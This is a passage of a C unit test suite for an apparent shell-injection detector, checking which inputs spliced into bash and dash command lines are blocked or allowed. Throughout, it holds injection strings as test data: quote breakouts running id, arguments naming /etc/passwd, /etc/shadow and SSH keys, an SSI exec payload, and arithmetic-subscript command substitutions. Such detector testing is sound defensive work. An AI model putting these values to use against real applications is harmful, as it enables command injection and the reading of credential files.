	assert_int_equal(ns("<3 you"), MOAT_ALLOW);
	assert_int_equal(ns("I <3 <3"), MOAT_ALLOW);
	assert_int_equal(ns("<SPAN CLASS=\"X\">Y</SPAN>"), MOAT_ALLOW);
	assert_int_equal(ns("<head>"), MOAT_ALLOW);
	assert_int_equal(ns("<dd>milk</dd>"), MOAT_ALLOW);
	assert_int_equal(ns("</b> oops"), MOAT_ALLOW);
	assert_int_equal(ns("a <b"), MOAT_ALLOW);
	assert_int_equal(ns("<Foo bar"), MOAT_ALLOW);
	assert_int_equal(ns("<c?t x"), MOAT_ALLOW); /* no pathname expansion there */
	/* inside the application's quotes it is data */
	assert_int_equal(sq("<id"), MOAT_ALLOW);
	assert_int_equal(dq("</etc/passwd"), MOAT_ALLOW);
}

/* Writes "echo w0 w1 ... w299" (301 words, past a window's 128 elements)
 * into head (cap bytes, cap > 2,000) and returns its length: what a test
 * puts before the part of a line that its first windows must not keep. */
static size_t long_line_head(char *head, size_t cap)
{
	size_t o = (size_t)snprintf(head, cap, "echo");

	for (int i = 0; i < 300; i++)
		o += (size_t)snprintf(head + o, cap - o, " w%d", i);
	assert_true(o < cap);
	return o;
}

/* A redirection's target is no command name: the first word after it
 * that is no target names the command ("> f id" runs id, with its output
 * in f; sh allows redirections before the name). An input that supplies
 * the target and words after it, where the application wrote the
 * redirection at a command's start, names the command that runs, in
 * every redirection form; dash (Debian's /bin/sh) reads "&>" as "&" then
 * ">", so a word after its target names a command there too. An input
 * that ends the application's command and brings only redirections with
 * their targets makes the application's next word the command. Benign:
 * a target alone (one word), a file name with spaces inside quotes,
 * words after a target where the command has its name already
 * ("echo hi > my file" gives echo one more argument). */
static void words_after_a_redirections_target_name_the_command(void **state)
{
	static char head[4096];
	size_t o;

	(void)state;
	/* past the line's first windows: the redirection is lexed, not kept */
	o = long_line_head(head, sizeof head);
	snprintf(head + o, sizeof head - o, "; > ");
	assert_int_equal(shell3("f id", head, "f id", ""), MOAT_BLOCK);
	assert_int_equal(shell3("f", head, "f", " id"), MOAT_ALLOW);
	/* the window starts at the input, the redirection is before it */
	assert_int_equal(shell3("f id", "echo x; > ", "f id", ""), MOAT_BLOCK);
	assert_int_equal(shell3("f id", "> ", "f id", ""), MOAT_BLOCK);
	assert_int_equal(shell3("f id", "echo x; > ", "f id", " -u"), MOAT_BLOCK);
	assert_int_equal(shell3("f id", "echo x\n> ", "f id", "; echo done"), MOAT_BLOCK);
	assert_int_equal(shell3("f id", "echo x; >>", "f id", ""), MOAT_BLOCK);
	assert_int_equal(shell3("f id", "echo x; < ", "f id", ""), MOAT_BLOCK);
	assert_int_equal(shell3("f id", "echo x; 2> ", "f id", ""), MOAT_BLOCK);
	assert_int_equal(shell3("f id", "echo x; 0<", "f id", ""), MOAT_BLOCK);
	assert_int_equal(shell3("f id", "echo x; >| ", "f id", ""), MOAT_BLOCK);
	assert_int_equal(shell3("f id", "echo x; <> ", "f id", ""), MOAT_BLOCK);
	assert_int_equal(shell3("f id", "echo x; <<< ", "f id", ""), MOAT_BLOCK);
	assert_int_equal(shell3("2 id", "echo x; >&", "2 id", ""), MOAT_BLOCK);
	assert_int_equal(shell3("1 id", "echo x; 2>&", "1 id", ""), MOAT_BLOCK);
	assert_int_equal(shell3("E id", "echo x; <<", "E id", "\nbody\nE\n"), MOAT_BLOCK);
	assert_int_equal(shell3("f uname -a", "echo x; > ", "f uname -a", ""), MOAT_BLOCK);
	/* the input ends a target the application began */
	assert_int_equal(shell3("f id", "echo x; > /tmp/", "f id", ""), MOAT_BLOCK);
	assert_int_equal(shell3("f id", "echo x; 2>/tmp/", "f id", " -u"), MOAT_BLOCK);
	/* a redirection before the application's command name: the input's
	 * word names the command, the application's become its arguments */
	assert_int_equal(shell3("f id", "> ", "f id", " sort /srv/data.txt"), MOAT_BLOCK);
	assert_int_equal(shell3("log.txt sh", "2>", "log.txt sh", " -c 'make all'"), MOAT_BLOCK);
	/* dash: "&" ends the command, "> f id" is the next one */
	assert_int_equal(shell3("f id", "make all &> ", "f id", ""), MOAT_BLOCK);
	assert_int_equal(shell3("f id", "make all &>> ", "f id", ""), MOAT_BLOCK);
	/* the input ends the command and brings only a redirection: the
	 * application's next word is the command */
	assert_int_equal(ns("; >f"), MOAT_BLOCK);
	assert_int_equal(ns("; 2>err <in"), MOAT_BLOCK);
	assert_int_equal(ns("id; >f"), MOAT_BLOCK);

	/* a target alone, one word */
	assert_int_equal(shell3("notes", "echo x; > ", "notes", ""), MOAT_ALLOW);
	assert_int_equal(shell3("notes.txt", "echo x; > ", "notes.txt", " sort data"), MOAT_ALLOW);
	assert_int_equal(shell3("out", "echo x; >&", "out", ""), MOAT_ALLOW);
	/* a file name with spaces inside quotes after the redirection */
	assert_int_equal(shell3("my file", "echo hi > \"", "my file", "\""), MOAT_ALLOW);
	assert_int_equal(shell3("my id card", "echo x; > '", "my id card", "'"), MOAT_ALLOW);
	assert_int_equal(shell3("my file", "> \"", "my file", "\" sort data"), MOAT_ALLOW);
	/* the command has its name: more words are its arguments */
	assert_int_equal(shell3("my file", "echo hi > ", "my file", ""), MOAT_ALLOW);
	assert_int_equal(shell3("f id", "echo x > ", "f id", ""), MOAT_ALLOW);
	assert_int_equal(shell3("hello world", "cat <<< ", "hello world", ""), MOAT_ALLOW);
	assert_int_equal(shell3("my list", "sort ", "my list", " > \"$out\""), MOAT_ALLOW);
	assert_int_equal(shell3("hello world", "> \"$out\" echo ", "hello world", ""), MOAT_ALLOW);
	/* the word after the target names no program */
	assert_int_equal(shell3("my notes", "echo x; > ", "my notes", ""), MOAT_ALLOW);
	assert_int_equal(shell3("f id", "echo x; > /tmp/", "f id", ".log"), MOAT_ALLOW);
	/* the application's own word after the target the input ends */
	assert_int_equal(shell3("f", "echo x; > /tmp/", "f", " id"), MOAT_ALLOW);
	/* text that ends with an operator before the application's redirection */
	assert_int_equal(ns("x;"), MOAT_ALLOW);
	assert_int_equal(shell3("so good ;", "echo ", "so good ;", "> f data"), MOAT_ALLOW);
	assert_int_equal(ns("x; >f"), MOAT_ALLOW);
}

/* A program that runs the next one (exec, nohup, nice, timeout, env,
 * command, time, xargs ...) followed by redirections still waits for
 * the name of what it runs: "nohup > f id" and "exec > f id" run id in
 * dash and bash (exec replaces the shell with it). The input's word
 * after the target names the program that runs. Benign: a quoted target
 * with spaces, a one-word target, the application's own command after
 * the target or on the next line, a target after the wrapped command. */
static void a_wrapper_before_a_redirection_still_waits_for_its_command(void **state)
{
	static char head[4096];
	size_t o;

	(void)state;
	/* past the line's first windows: the wrapper and the redirection
	 * are lexed, not kept */
	o = long_line_head(head, sizeof head);
	snprintf(head + o, sizeof head - o, "; nice -n 5 timeout 5 > ");
	assert_int_equal(shell3("f id", head, "f id", ""), MOAT_BLOCK);
	snprintf(head + o, sizeof head - o, "; nohup ./run.sh w1 w2 > ");
	assert_int_equal(shell3("f id", head, "f id", ""), MOAT_ALLOW);
	snprintf(head + o, sizeof head - o, "; nohup w1 w2 w3 > ");
	assert_int_equal(shell3("f id", head, "f id", ""), MOAT_ALLOW);
	assert_int_equal(shell3("f id", "exec > ", "f id", ""), MOAT_BLOCK);
	assert_int_equal(shell3("f id", "nohup > ", "f id", ""), MOAT_BLOCK);
	assert_int_equal(shell3("f id", "cd /srv && nohup > ", "f id", " &"), MOAT_BLOCK);
	assert_int_equal(shell3("f id", "nice > ", "f id", ""), MOAT_BLOCK);
	assert_int_equal(shell3("f id", "nice -n 5 > ", "f id", ""), MOAT_BLOCK);
	assert_int_equal(shell3("f id", "timeout 5 > ", "f id", ""), MOAT_BLOCK);
	assert_int_equal(shell3("f id", "env > ", "f id", ""), MOAT_BLOCK);
	assert_int_equal(shell3("f id", "command > ", "f id", ""), MOAT_BLOCK);
	assert_int_equal(shell3("f id", "exec 2> ", "f id", ""), MOAT_BLOCK);
	assert_int_equal(shell3("f id", "nohup 2>/dev/null > ", "f id", ""), MOAT_BLOCK);
	assert_int_equal(shell3("f id", "sudo nohup > ", "f id", ""), MOAT_BLOCK);
	assert_int_equal(shell3("f id", "nohup > /tmp/", "f id", ""), MOAT_BLOCK);
	assert_int_equal(shell3("f uname -a", "nohup > ", "f uname -a", ""), MOAT_BLOCK);
	/* the input brings the redirection too */
	assert_int_equal(shell3("> f id", "nohup ", "> f id", ""), MOAT_BLOCK);

	/* a target with spaces in quotes, the application's command after it */
	assert_int_equal(shell3("my log", "nohup > \"", "my log", "\" ./run.sh"), MOAT_ALLOW);
	assert_int_equal(shell3("my id card", "exec > '", "my id card", "'"), MOAT_ALLOW);
	/* a one-word target after the wrapped command */
	assert_int_equal(shell3("out.log", "nohup ./run.sh > ", "out.log", ""), MOAT_ALLOW);
	assert_int_equal(shell3("my notes", "nohup ./run.sh > ", "my notes", ""), MOAT_ALLOW);
	assert_int_equal(shell3("f id", "nohup ./run.sh > ", "f id", ""), MOAT_ALLOW);
	/* a one-word target, the application's command after it */
	assert_int_equal(shell3("out.log", "exec > ", "out.log", "\nmake all"), MOAT_ALLOW);
	assert_int_equal(shell3("out.log", "nohup > ", "out.log", " ./run.sh"), MOAT_ALLOW);
	assert_int_equal(shell3("build", "exec > ", "build", ".log 2>&1; make all"), MOAT_ALLOW);
	/* the word after the target names no program */
	assert_int_equal(shell3("my notes", "nohup > ", "my notes", ""), MOAT_ALLOW);
}

/* An option word needs an option's name: a letter or digit after the
 * dashes (POSIX's Utility Syntax Guidelines; getopt_long's names). A dash
 * of prose followed by a line break or a quote names none. */
static void an_option_needs_a_name(void **state)
{
	(void)state;
	assert_int_equal(dq("x\" \"--\n\tMy"), MOAT_ALLOW);
	assert_int_equal(dq("x\" -\"\" y"), MOAT_ALLOW);
	assert_int_equal(dq("x\" -\"o\"ProxyCommand=id \""), MOAT_BLOCK);
	assert_int_equal(dq("x\" \"--output=/tmp/x"), MOAT_BLOCK);
	assert_int_equal(sq("x' -5 '"), MOAT_BLOCK);
}

static void breaking_out_of_quotes_to_add_a_file_argument_fires(void **state)
{
	(void)state;
	/* grep, tar, zip, mail read the operand the input adds */
	assert_int_equal(sq("x' '/etc/passwd"), MOAT_BLOCK);
	assert_int_equal(sq("x' /etc/shadow '"), MOAT_BLOCK);
	assert_int_equal(dq("a\" \"/root/.ssh/id_rsa"), MOAT_BLOCK);
	/* SSI written into a double-quoted argument: /etc/passwd comes out as one */
	assert_int_equal(dq("<!--#exec cmd=\"/bin/cat /etc/passwd\"-->"), MOAT_BLOCK);
	/* quotes in text that only re-quote, or make words that are no paths */
	assert_int_equal(dq("\"#2 MOM\""), MOAT_ALLOW);
	assert_int_equal(dq("12\" x 18\" frame"), MOAT_ALLOW);
	assert_int_equal(sq("Rock 'n' roll /"), MOAT_ALLOW);
	/* without a quote of the application's a path is just a word */
	assert_int_equal(unq("/etc/passwd"), MOAT_ALLOW);
	assert_int_equal(sq("/etc/passwd"), MOAT_ALLOW);
}

static void substitutions_nested_in_expansions_fire(void **state)
{
	(void)state;
	/* ${...} and $((...)) run the command substitutions they hold */
	assert_int_equal(unq("${x:-$(id)}"), MOAT_BLOCK);
	assert_int_equal(dq("${PATH:+`id`}"), MOAT_BLOCK);
	assert_int_equal(unq("$((a[$(id)]))"), MOAT_BLOCK);
	assert_int_equal(tail("${x[`id`]}"), MOAT_BLOCK);
	/* in single quotes, and expansions without a substitution */
	assert_int_equal(sq("${x:-$(id)}"), MOAT_ALLOW);
	assert_int_equal(tail("$((1+2))"), MOAT_ALLOW);
	assert_int_equal(dq("${HOME}/x"), MOAT_ALLOW);
}

/* Session 16's bypass hunt: the application wrote the ${...} or $((...))
 * and the input brings the command substitution inside it; dash and bash
 * both run it while expanding the word. */
static void substitutions_inside_the_applications_expansions_fire(void **state)
{
	(void)state;
	assert_int_equal(shell3("$(id)", "echo ${x:-", "$(id)", "}"), MOAT_BLOCK);
	assert_int_equal(shell3("$(id)", "echo \"${x:-", "$(id)", "}\""), MOAT_BLOCK);
	assert_int_equal(shell3("a[$(id)]", "echo $(( ", "a[$(id)]", " + 1 ))"), MOAT_BLOCK);
	assert_int_equal(shell3("`id`", "echo $((", "`id`", "+1))"), MOAT_BLOCK);
	assert_int_equal(shell3("$(id)", "a=(x y); echo ${a[", "$(id)", "]}"), MOAT_BLOCK);
	assert_int_equal(shell3("$(id)", "s=hello; echo ${s:", "$(id)", "}"), MOAT_BLOCK);
	/* the application's own substitution around the input's */
	assert_int_equal(shell3("$(id)", "echo $(basename ", "$(id)", ")"), MOAT_BLOCK);
	/* plain values there are data; quoted substitutions do not run */
	assert_int_equal(shell3("1", "echo $(( ", "1", " + 1 ))"), MOAT_ALLOW);
	assert_int_equal(shell3("red shoes", "echo ${x:-", "red shoes", "}"), MOAT_ALLOW);
	assert_int_equal(shell3("x.txt", "echo $(basename ", "x.txt", ")"), MOAT_ALLOW);
	assert_int_equal(shell3("$(id)", "echo ${x:-'", "$(id)", "'}"), MOAT_ALLOW);
	assert_int_equal(shell3("$(id)", "echo $(basename '", "$(id)", "')"), MOAT_ALLOW);
}

/* Inside "..." a $' or $" is a dollar sign and a quote, in dash and in
 * bash alike ("$'\"";id runs id in both): the double quote does not open
 * an ANSI-C quote. */
static void a_dollar_quote_inside_double_quotes_is_literal(void **state)
{
	(void)state;
	assert_int_equal(dq("$'\\\"\";id;\""), MOAT_BLOCK);
	assert_int_equal(unq("\"$'\";id"), MOAT_BLOCK);
	assert_int_equal(unq("\"$'\\\"\";id"), MOAT_BLOCK);
	assert_int_equal(sq("'\"$'\\\"\";id;#"), MOAT_BLOCK);
	/* text with a dollar and an apostrophe inside the quotes */
	assert_int_equal(dq("it costs $'5"), MOAT_ALLOW);
	assert_int_equal(dq("Bob's $'s"), MOAT_ALLOW);
}

/* dash (Debian's /bin/sh: system(), popen()) has no $'...': it reads a $
 * and a '...' quote that ends at the first ', where bash reads \' and goes
 * on. An input that holds such a quote splits the line one way in bash
 * and another in dash: $'\' ;id #' runs id in dash (bash: data), and
 * the check read it as bash does. */
static void a_dollar_quote_dash_ends_earlier_fires(void **state)
{
	(void)state;
	assert_int_equal(unq("$'\\' ;id #'"), MOAT_BLOCK);
	assert_int_equal(unq("$'\\';id;#'"), MOAT_BLOCK);
	assert_int_equal(unq("a$'\\';id;#'"), MOAT_BLOCK);
	assert_int_equal(tail("$'\\';id;#'"), MOAT_BLOCK);
	assert_int_equal(sq("'$'\\';id;#'"), MOAT_BLOCK);
	assert_int_equal(sq("x'$'\\';id;'"), MOAT_BLOCK);
	assert_int_equal(shell3("$'\\';id;#'", "grep -e ", "$'\\';id;#'", " /var/log/app.log"),
	                 MOAT_BLOCK);
	/* unterminated for bash (the line cannot parse there): dash runs id */
	assert_int_equal(tail("$'\\';id #"), MOAT_BLOCK);
	/* $'...' that both shells end at the same quote, and text */
	assert_int_equal(sq("it's $'5"), MOAT_ALLOW);
	assert_int_equal(unq("$'x'"), MOAT_ALLOW);
	assert_int_equal(unq("$'\\n'"), MOAT_ALLOW);
	assert_int_equal(dq("$'\\' ;id #'"), MOAT_ALLOW); /* inside "...": text to both */
}

/* bash's array assignment a=(x y) is one word (dash refuses the line):
 * read as a subshell after a word, the line did not parse and
 * "x;a=(1);id" (id runs in bash) was allowed. */
static void bash_array_assignments_are_words(void **state)
{
	(void)state;
	assert_int_equal(unq("x;a=(1);id"), MOAT_BLOCK);
	assert_int_equal(unq("x;a=(1 2)\nid"), MOAT_BLOCK);
	assert_int_equal(unq("x;a+=(1) id"), MOAT_BLOCK);
	assert_int_equal(unq("x;a=();id"), MOAT_BLOCK);
	assert_int_equal(unq("x;a=($(id))"), MOAT_BLOCK);
	assert_int_equal(tail("x;a=(1)\nid"), MOAT_BLOCK);
	/* the application's own array, the input a value in it */
	assert_int_equal(shell3("red shoes", "a=(", "red shoes", "); echo ${a[0]}"), MOAT_ALLOW);
	assert_int_equal(shell3("a.txt b.txt", "files=(", "a.txt b.txt", ") && ls"), MOAT_ALLOW);
	assert_int_equal(unq("x=(1)"), MOAT_ALLOW);
	assert_int_equal(sq("a=(1);id"), MOAT_ALLOW);
}

/* bash's "function f { id; }": the body's first command decides, as
 * after "f() {" (the word after "function f" was read as an argument). */
static void a_function_keyword_body_is_judged(void **state)
{
	(void)state;
	assert_int_equal(unq("x;function f { id; };f"), MOAT_BLOCK);
	assert_int_equal(unq("x\nfunction f { id; }\nf"), MOAT_BLOCK);
	/* prose with the word */
	assert_int_equal(unq("the function of the heart; the function is"), MOAT_ALLOW);
	assert_int_equal(unq("x; function as a noun"), MOAT_ALLOW);
}

/* Each attack between each head's two halves blocks, each value allows
 * (an attack with a backtick is left out after a head ending in '"': a
 * backtick inside "..." runs anyway). */
static void heads_block_and_allow(const char *const heads[][2], size_t nh,
                                  const char *const *attacks, size_t na, const char *const *values,
                                  size_t nv)
{
	for (size_t h = 0; h < nh; h++) {
		for (size_t k = 0; k < na; k++) {
			if (heads[h][0][strlen(heads[h][0]) - 1] == '"' && attacks[k][2] == '`')
				continue;
			if (shell3(attacks[k], heads[h][0], attacks[k], heads[h][1]) != MOAT_BLOCK)
				fail_msg("allowed: %s%s%s", heads[h][0], attacks[k], heads[h][1]);
		}
		for (size_t k = 0; k < nv; k++)
			if (shell3(values[k], heads[h][0], values[k], heads[h][1]) != MOAT_ALLOW)
				fail_msg("blocked: %s%s%s", heads[h][0], values[k], heads[h][1]);
	}
}

/* Every attack between each pass's head and tail is allowed. */
static void passes_allow(const char *const passes[][2], size_t np, const char *const *attacks,
                         size_t na)
{
	for (size_t h = 0; h < np; h++)
		for (size_t k = 0; k < na; k++)
			if (shell3(attacks[k], passes[h][0], attacks[k], passes[h][1]) !=
			    MOAT_ALLOW)
				fail_msg("blocked: %s%s%s", passes[h][0], attacks[k], passes[h][1]);
}

/* bash evaluates a value as arithmetic in [[ ... -eq ... ]], let,
 * (( )), $(( )), declare -i, -v and an indexed array's subscript, and
 * expands a command substitution inside an array subscript there: the
 * quotes the application put around the input do not stop it
 * ([[ 'a[$(id)]' -eq 5 ]] runs id in bash 5.2; dash has no [[ ). Each
 * spelling below ran "touch" under bash -c (x[1]+a[$(id)] as a name,
 * after -v, read or declare, is refused before it runs: it fires all the
 * same). */
static void bash_arithmetic_of_quoted_text_fires(void **state)
{
	static const char *const heads[][2] = {
	    {"[[ '", "' -eq 5 ]] && echo yes"},
	    {"[[ 5 -lt '", "' ]]"},
	    {"[[ \"", "\" -ge 1 ]]"},
	    {"let 'x=", "'"},
	    {"(( x = '", "' ))"},
	    {"declare -i n='", "'"},
	    {"typeset -i n='", "'; echo $n"},
	    {"f(){ local -i n='", "'; }; f"},
	    {"echo $(( '", "' + 1 ))"},
	    {"echo $[ '", "' ]"},
	    {"[[ -v '", "' ]]"},
	    {"test -v '", "'"},
	    {"printf -v '", "' %s x"},
	    {"read '", "' <<< 1"},
	    {"declare '", "=1'"},
	    {"x='", "'; (( x > 1 )) && echo big"},
	    {"declare -i n; n='", "'"},
	    {"{ let 'x=", "'; }"},
	    {"true && (let 'x=", "')"},
	};
	static const char *const attacks[] = {"a[$(id)]", "a[`id`]", "x[1]+a[$(id)]"};
	/* ordinary values in the same places */
	static const char *const values[] = {"5", "12", "abc", "a[1]", "red shoes", "-3"};

	(void)state;
	heads_block_and_allow(heads, sizeof heads / sizeof heads[0], attacks,
	                      sizeof attacks / sizeof attacks[0], values,
	                      sizeof values / sizeof values[0]);
	/* inside "...", a \$( is a $( to the arithmetic */
	assert_int_equal(shell3("a[\\$(id)]", "let \"x=", "a[\\$(id)]", "\""), MOAT_BLOCK);
	/* (( )), $(( )) and an array subscript expand any substitution in
	 * quotes (their text is read as inside "...") */
	assert_int_equal(shell3("$(id)", "(( '", "$(id)", "' ))"), MOAT_BLOCK);
	assert_int_equal(shell3("$(id)", "echo $(( '", "$(id)", "' ))"), MOAT_BLOCK);
	assert_int_equal(shell3("$(id)", "a=(1 2); echo ${a['", "$(id)", "']}"), MOAT_BLOCK);
	assert_int_equal(shell3("$(id)", "a=(1 2); echo \"${a['", "$(id)", "']}\""), MOAT_BLOCK);
	assert_int_equal(shell3("1", "a=(1 2); echo ${a['", "1", "']}"), MOAT_ALLOW);
	/* the same text where nothing evaluates it: a pattern, a string
	 * comparison, an echo, awk's own fields */
	assert_int_equal(shell3("a[$(id)]", "grep -F -- '", "a[$(id)]", "' /var/log/app.log"),
	                 MOAT_ALLOW);
	assert_int_equal(shell3("a[$(id)]", "[[ '", "a[$(id)]", "' == x ]]"), MOAT_ALLOW);
	assert_int_equal(shell3("a[$(id)]", "x='", "a[$(id)]", "'; echo \"$x\""), MOAT_ALLOW);
	assert_int_equal(shell3("$(id)", "[[ '", "$(id)", "' -eq 5 ]]"), MOAT_ALLOW);
	assert_int_equal(shell3("{ c[$(NF)]++ }", "awk '", "{ c[$(NF)]++ }", "' /var/log/app.log"),
	                 MOAT_ALLOW);
}

/* Where bash 5.2 evaluates a quoted value as arithmetic, read exactly
 * (session 18; each line ran "touch" under bash -c and dash -c): (( ))
 * as a command after if, while, {, !, or inside the application's own
 * $( ) or backticks runs a substitution in it; so does an argument of a
 * function the line defines and that evaluates something, or of an
 * alias of let. test and [ read -eq's operands as integers and evaluate
 * nothing, nor do export and readonly take a subscript (bash 5.2
 * refuses the name): those pass; test -v, [[ ... -eq and unset (a
 * declared array) still fire. */
static void bash_arithmetic_is_read_where_bash_evaluates(void **state)
{
	static const char *const heads[][2] = {
	    {"if (( '", "' > 1 )); then echo big; fi"},
	    {"while (( '", "' > 1 )); do break; done"},
	    {"{ (( '", "' > 1 )); }"},
	    {"! (( '", "' > 1 ))"},
	    {"echo $( (( '", "' > 1 )) && echo big )"},
	    {"echo `(( '", "' > 1 )) && echo big`"},
	    {"f(){ (( $1 > 0 )); }; f '", "'"},
	    {"function f { (( $1 > 0 )); }; f '", "'"},
	    {"f(){ local n=$1; echo $(( n + 1 )); }; f '", "'"},
	    {"shopt -s expand_aliases\nalias l=let\nl 'x=", "'"},
	    {"[[ 1 -eq 1 && '", "' -eq 5 ]]"},
	    {"[ -v '", "' ]"},
	    {"declare -i y; export y='", "'"},
	};
	static const char *const attacks[] = {"a[$(id)]", "a[`id`]", "x[1]+a[$(id)]"};
	static const char *const values[] = {"5", "12", "abc", "a[1]", "red shoes", "-3"};
	static const char *const passes[][2] = {
	    {"test '", "' -eq 5"},
	    {"[ '", "' -eq 5 ]"},
	    {"[ 5 -lt '", "' ]"},
	    {"if [ '", "' -gt 0 ]; then echo y; fi"},
	    {"[ 1 -eq 1 ] && [ '", "' -eq 5 ]"},
	    {"/usr/bin/test '", "' -ge 1"},
	    {"export '", "=1'"},
	    {"export '", "'"},
	    {"readonly '", "=1'"},
	    {"export y='", "'"},
	    {"f(){ echo \"$1\"; }; f '", "'"},
	    {"alias l=ls\nl '", "'"},
	};

	(void)state;
	heads_block_and_allow(heads, sizeof heads / sizeof heads[0], attacks,
	                      sizeof attacks / sizeof attacks[0], values,
	                      sizeof values / sizeof values[0]);
	passes_allow(passes, sizeof passes / sizeof passes[0], attacks,
	             sizeof attacks / sizeof attacks[0]);
	/* unset evaluates the subscript of a declared indexed array */
	assert_int_equal(shell3("a[$(id)]", "a=(1); unset '", "a[$(id)]", "'"), MOAT_BLOCK);
}

/* A value inside (( )) behind a "(" of its own, an operator (&&, ||, |,
 * ...), and one in a subscript of an indexed array's
 * compound assignment (x=( ['$(id)']=1 ), declare, readonly and export
 * alike): bash 5.2 runs the substitution (each line ran "touch" under
 * bash -c). The look-back for the command's start stopped at that "(" or
 * operator and missed the (( ; readonly and export passed since their
 * names are not evaluated (main 5f3e7e6 fired on those two). For
 * (( 1 + ( '...' ) )) and for (( ...; ... )), lines dash cannot parse,
 * see arithmetic_in_lines_dash_cannot_parse_fires. */
static void arithmetic_behind_a_parenthesis_and_compound_subscripts_fire(void **state)
{
	static const char *const heads[][2] = {
	    {"(( ( '", "' ) ))"},
	    {"x=1; (( ( x + '", "' ) ))"},
	    {"if (( ( '", "' ) > 1 )); then :; fi"},
	    {"(( 1 && '", "' ))"},
	    {"(( 1 || '", "' ))"},
	    {"x=( ['", "']=1 )"},
	    {"x+=( [0]=1 ['", "']=2 )"},
	    {"readonly -a x=( ['", "']=1 )"},
	    {"export x=( ['", "']=1 )"},
	    {"declare x=( ['", "']=1 )"},
	    {"local -a x=( [1+'", "']=1 )"},
	};
	static const char *const attacks[] = {"a[$(id)]", "$(id)", "`id`", "x[1]+a[$(id)]"};
	static const char *const values[] = {"5", "12", "abc", "a[1]", "red shoes", "-3"};
	static const char *const passes[][2] = {
	    {"(( x = 1 )); echo '", "'"},
	    {"(( (x) > 1 )) && echo '", "'"},
	    {"x=( '", "' )"},
	    {"echo '", "' && (( 1 ))"},
	};

	(void)state;
	heads_block_and_allow(heads, sizeof heads / sizeof heads[0], attacks,
	                      sizeof attacks / sizeof attacks[0], values,
	                      sizeof values / sizeof values[0]);
	passes_allow(passes, sizeof passes / sizeof passes[0], attacks,
	             sizeof attacks / sizeof attacks[0]);
	/* an associative array's keys are not evaluated */
	assert_int_equal(shell3("$(id)", "declare -A x; x=( ['", "$(id)", "']=1 )"), MOAT_ALLOW);
}

/* bash's arithmetic command in lines dash refuses: "(( 1 + ( '...' ) ))"
 * and "for (( ...; ...; ... ))" (dash reads "((" as two subshells and
 * "1 + (" as a function's "name (", and has no arithmetic for). The parse
 * check refused them, so nothing but a substitution the input brings
 * fired; bash 5.2 runs each attack below (bash -c with touch in place of
 * id). A "((" whose parentheses do not end with "))" is two subshells to
 * bash and still read so; a "<<" inside (( )) is a shift, not a
 * here-document. */
static void arithmetic_in_lines_dash_cannot_parse_fires(void **state)
{
	static const char *const heads[][2] = {
	    {"(( 1 + ( '", "' ) ))"},
	    {"(( x = ( 1 ) + '", "' ))"},
	    {"for (( i=0; i<'", "'; i++ )); do echo $i; done"},
	    {"for ((i=0;i<(1)+'", "';i++)) do echo $i; done"},
	    {"if (( 1 + ( '", "' ) )); then echo big; fi"},
	    {"echo x | (( 1 + ( '", "' ) )) && echo y"},
	};
	static const char *const attacks[] = {"a[$(id)]", "$(id)", "`id`", "x[1]+a[$(id)]"};
	static const char *const values[] = {"5", "12", "abc", "a[1]", "red shoes", "-3"};

	(void)state;
	heads_block_and_allow(heads, sizeof heads / sizeof heads[0], attacks,
	                      sizeof attacks / sizeof attacks[0], values,
	                      sizeof values / sizeof values[0]);
	/* two subshells: the command inside is judged as before */
	assert_int_equal(shell3("x'; id; '", "((grep '", "x'; id; '", "' a) | sort)"), MOAT_BLOCK);
	assert_int_equal(shell3("red shoes", "((grep '", "red shoes", "' a) | sort)"), MOAT_ALLOW);
	/* (( x << 2 )) shifts: the next line is no here-document's body */
	assert_int_equal(shell3("x';id;'", "(( x << 2 ))\necho '", "x';id;'", "'"), MOAT_BLOCK);
	assert_int_equal(shell3("red shoes", "(( x << 2 ))\necho '", "red shoes", "'"), MOAT_ALLOW);
}

/* The application's own process substitution <( ) >( ) is its commands
 * as $( ) is: a value inside it is read with the words around it there
 * (let, declare, [[ -eq, an assignment). Each attack runs in bash 5.2;
 * the check allowed them in <( ), and [[ -eq and the assignment in $( )
 * too (its body's words are not elements: they are read from the text
 * now). */
static void process_substitution_bodies_are_the_applications_commands(void **state)
{
	static const char *const heads[][2] = {
	    {"cat <(let 'x=", "')"},
	    {"diff <(grep x a; let 'x=", "') b"},
	    {"cat >(let 'x=", "')"},
	    {"diff <(declare -i n='", "') b"},
	    {"cat <( [[ '", "' -eq 1 ]] && echo big )"},
	    {"echo $( [[ '", "' -eq 1 ]] && echo big )"},
	    {"cat <(x='", "'; echo $((x)))"},
	    {"echo $(x='", "'; echo $((x)))"},
	};
	static const char *const attacks[] = {"a[$(id)]", "a[`id`]", "x[1]+a[$(id)]"};
	static const char *const values[] = {"5", "12", "abc", "a[1]", "red shoes", "-3"};
	static const char *const passes[][2] = {
	    {"diff <(grep -F -- '", "' a) b"},
	    {"cat <(echo '", "')"},
	    {"echo $(x='", "'; echo \"$x\")"},
	};

	(void)state;
	heads_block_and_allow(heads, sizeof heads / sizeof heads[0], attacks,
	                      sizeof attacks / sizeof attacks[0], values,
	                      sizeof values / sizeof values[0]);
	passes_allow(passes, sizeof passes / sizeof passes[0], attacks,
	             sizeof attacks / sizeof attacks[0]);
}

/* Where bash evaluates nothing: an associative array's keys (declare -A
 * x=( ['a[$(id)]']=1 ), ${x['...']}), export and readonly through an
 * alias (they take names; bash 5.2 refuses 'a[$(id)]=1' as one), and
 * "function f x ( ... )", which bash refuses (the check read the "(" as
 * a subshell after any third word, not only "{"). Each ran under bash -c
 * (touch in place of id): nothing. And where it does: an associative
 * array's values evaluated in (( )), -Ai, an element assigned then
 * evaluated (a[1]='...'; (( a[1] > 1 ))), "function f ( ... )" (the
 * body is a subshell: bash runs it; the check refused the line). */
static void arrays_aliases_and_functions_bash_does_not_evaluate_pass(void **state)
{
	static const char *const attacks[] = {"a[$(id)]", "a[`id`]", "x[1]+a[$(id)]"};
	static const char *const passes[][2] = {
	    {"declare -A x=( ['", "']=1 )"},
	    {"typeset -A x=( ['", "']=1 ); echo ${x[@]}"},
	    {"f(){ local -A x=( ['", "']=1 ); }; f"},
	    {"declare -gA x=( ['", "']=1 )"},
	    {"declare -A x; x+=( ['", "']=1 )"},
	    {"declare -A x; echo ${x['", "']}"},
	    {"shopt -s expand_aliases\nalias e=export\ne '", "=1'"},
	    {"shopt -s expand_aliases\nalias e=export\ne y='", "'"},
	    {"shopt -s expand_aliases\nalias e=readonly\ne '", "'"},
	};
	static const char *const heads[][2] = {
	    {"declare -Ai x=( [k]='", "' )"},
	    {"declare -A x=( [k]='", "' ); (( x[k] > 1 ))"},
	    {"shopt -s expand_aliases\nalias e=export\ne y='", "'; (( y > 1 ))"},
